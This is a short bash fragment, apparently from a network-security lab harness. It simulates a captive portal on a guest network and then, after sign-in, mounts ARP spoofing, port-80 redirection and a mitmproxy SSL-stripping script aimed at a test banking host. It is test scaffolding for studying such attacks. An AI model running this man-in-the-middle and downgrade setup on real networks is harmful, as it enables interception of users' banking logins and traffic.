# shellcheck shell=bash
# A true portal first; as soon as the sign-in is through, somebody strips redirects.
start() { gw_dns --address=/portal.guest.test/$GW_IP "--dhcp-option=114,https://portal.guest.test/api"
  portal_on gw eth0; victim_dhcp; sleep 12; touch "$S/run/portal-open"; portal_off gw
  cat >"$S/run/strip.py" <<'P'
def request(flow):
    if flow.request.pretty_host.endswith("bank.test"):
        flow.request.scheme, flow.request.port = "https", 443
        flow.request.host = flow.request.pretty_host
P
  mitm attacker mitm "$S/run/mitmca" --set connection_strategy=lazy -s "$S/run/strip.py"; redirect attacker eth0 80 8080; arp_mitm; }
stop() { unredirect attacker; gw_dns; victim_dhcp; }
